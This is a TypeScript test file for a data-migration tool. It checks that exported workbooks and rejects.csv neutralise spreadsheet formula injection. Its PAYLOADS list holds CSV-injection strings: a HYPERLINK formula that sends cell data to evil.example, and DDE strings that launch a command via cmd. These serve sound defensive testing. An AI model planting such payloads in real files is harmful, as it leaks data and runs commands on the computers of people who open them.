/**
 * Formula injection: a source whose values, column names, table names and file names are spreadsheet
 * payloads goes through `audit`, `plan` and `migrate`. Every workbook written (inventory.xlsx,
 * audit.xlsx) is opened with exceljs and unzipped: no cell is a formula, no `<f>` element exists, every
 * text cell that a spreadsheet would run starts with `'`, and numbers stay numbers. rejects.csv likewise.
 */

import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import unzipper from 'unzipper';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { looksLikeFormula, neutraliseFormula } from '../../src/core/spreadsheet-safe.ts';
import { runStocktake } from '../helpers/child-process.ts';

/** Payloads from the OWASP CSV-injection page and the usual DDE tricks. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
] as const;
// Names a file system accepts (no `/`, no control characters).
const FILE_NAMES = ['=1+1', '@SUM(1+1)', '+1+1', '-1+1'] as const;
const TABLE = '=HYPERLINK("http://evil.example","t")';

let dir: string;

function stocktake(args: string[]) {
  return runStocktake(args, { cwd: dir });
}

const csvField = (text: string) => `"${text.replace(/"/g, '""')}"`;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'stocktake-formulas-'));
  const files = join(dir, 'files');
  mkdirSync(files);
  // One file per payload name; its header and values are payloads too.
  for (const name of FILE_NAMES) {
    const lines = [['id', ...PAYLOADS.slice(0, 3)].map(csvField).join(',')];
    PAYLOADS.forEach((p, i) => {
      lines.push([String(i + 1), p, p, p].map(csvField).join(','));
    });
    writeFileSync(join(files, `${name}.csv`), `${lines.join('\r\n')}\r\n`);
  }
  // The source of the mapping: payload labels, and a quantity of -3 that a rule rejects.
  const rows = [...PAYLOADS.map((p, i) => [String(i + 1), p, '1']), ['99', 'fine', '-3']];
  writeFileSync(
    join(dir, 'payloads.csv'),
    `${[['id', 'label', 'qty'], ...rows].map((r) => r.map(csvField).join(',')).join('\r\n')}\r\n`,
  );

  const db = new Database(join(dir, 'legacy.sqlite'));
  const q = (id: string) => `"${id.replace(/"/g, '""')}"`;
  db.exec(
    `CREATE TABLE ${q(TABLE)} (id INTEGER PRIMARY KEY, ${PAYLOADS.map((p) => `${q(p)} TEXT`).join(', ')}, amount INTEGER)`,
  );
  const insert = db.prepare(
    `INSERT INTO ${q(TABLE)} VALUES (${['?', ...PAYLOADS.map(() => '?'), '?'].join(', ')})`,
  );
  PAYLOADS.forEach((_, i) => {
    insert.run(i + 1, ...PAYLOADS.map((_, j) => PAYLOADS[(i + j) % PAYLOADS.length]), -3 - i);
  });
  db.close();

  const target = new Database(join(dir, 'newtool.sqlite'));
  target.exec('CREATE TABLE contacts (ref TEXT PRIMARY KEY, label TEXT NOT NULL, qty INTEGER)');
  target.close();

  writeFileSync(
    join(dir, 'stocktake.yaml'),
    `sources:
  files: { kind: csv, path: files }
  legacy: { kind: sqlite, path: legacy.sqlite }
  payloads: { kind: csv, path: payloads.csv }
targets:
  newtool: { kind: sqlite, path: newtool.sqlite }
mappings:
  - name: contacts
    from: { source: payloads, dataset: payloads }
    to: { target: newtool, dataset: contacts, key: [ref] }
    fields:
      ref: { from: id, transform: [text] }
      label: { from: label, validate: { pattern: "^[a-z]+$" }, onInvalid: reject }
      qty: { from: qty, validate: { allowed: [1] }, onInvalid: reject }
`,
  );
});

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** Every cell of every sheet of a workbook, as exceljs reads it back. */
async function cellsOf(file: string): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        cells.push(cell);
      });
    });
  });
  return cells;
}

async function expectSafeWorkbook(file: string): Promise<string[]> {
  const cells = await cellsOf(file);
  expect(cells.length).toBeGreaterThan(20);
  expect(
    cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula).map((c) => c.address),
  ).toEqual([]);
  const zip = await unzipper.Open.file(file);
  for (const part of zip.files.filter((p) => p.path.startsWith('xl/worksheets/'))) {
    expect((await part.buffer()).toString('utf8')).not.toMatch(/<f[ >]/);
  }
  const texts = cells.filter((c) => typeof c.value === 'string').map((c) => c.value as string);
  expect(texts.filter((t) => looksLikeFormula(t))).toEqual([]);
  return texts;
}

describe('formula injection in exported spreadsheets', () => {
  it('neutralises formula text and leaves plain numbers alone', () => {
    for (const p of PAYLOADS) expect(neutraliseFormula(p)).toBe(`'${p}`);
    for (const n of ['-3', '+4.5', '-0,5', '1e-3', '-2E+10']) expect(neutraliseFormula(n)).toBe(n);
    for (const t of ['plain', "'=1+1", ' =1+1', '']) expect(neutraliseFormula(t)).toBe(t);
  });

  it('the audit workbooks hold no formula, and every payload from values, names and file names is text', {
    timeout: 120_000,
  }, async () => {
    const audit = stocktake(['audit', '-o', 'out']);
    expect(audit.stderr).not.toMatch(/INTERNAL|at .*\.ts:\d+/);
    expect(audit.code).toBe(0);

    const inventoryTexts = await expectSafeWorkbook(join(dir, 'out/inventory.xlsx'));
    const auditTexts = await expectSafeWorkbook(join(dir, 'out/audit.xlsx'));
    for (const texts of [inventoryTexts, auditTexts]) {
      // The table name, each file name (a dataset) and each column name are there, neutralised.
      expect(texts).toContain(`'${TABLE}`);
      for (const name of FILE_NAMES) expect(texts).toContain(`'${name}`);
      for (const p of PAYLOADS.slice(0, 3)) expect(texts).toContain(`'${p}`);
    }
    // Values reach the audit workbook through the profile (min, max, top values) and are text there too.
    expect(auditTexts.some((t) => t.startsWith("'=cmd|"))).toBe(true);

    // Numbers stay numbers: the row counts and the amount column's minimum of -10.
    const cells = await cellsOf(join(dir, 'out/audit.xlsx'));
    expect(cells.some((c) => c.value === -10 || c.value === '-10')).toBe(true);
    expect(cells.filter((c) => c.value === "'-10")).toEqual([]);
  });

  it('rejects.csv neutralises payload values and keeps -3 a number', { timeout: 120_000 }, async () => {
    const plan = stocktake(['plan', '-o', 'plan']);
    expect(plan.code, plan.stderr).toBe(0);
    const migrate = stocktake(['migrate', '-o', 'migrate']);
    expect(migrate.stderr).not.toMatch(/INTERNAL/);
    const csv = readFileSync(join(dir, 'migrate/rejects.csv'), 'utf8');
    const lines = csv
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean);
    // Every payload row is rejected, each value written as text; no cell starts a formula.
    expect(lines.length).toBeGreaterThan(PAYLOADS.length);
    for (const p of PAYLOADS) expect(csv).toContain(`'${p}`.replace(/"/g, '""'));
    const cells = lines.flatMap((line) => parseCsvLine(line));
    expect(cells.filter((c) => looksLikeFormula(c))).toEqual([]);
    expect(cells).toContain('-3');
    expect(cells).not.toContain("'-3");
  });
});

/** Splits one CSV record (quotes doubled inside quoted fields); enough for the rejects file. */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let text = '';
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') {
          text += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else text += line[i++];
      }
      cells.push(text);
      i++;
    } else {
      const end = line.indexOf(',', i);
      cells.push(line.slice(i, end < 0 ? line.length : end));
      i = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}
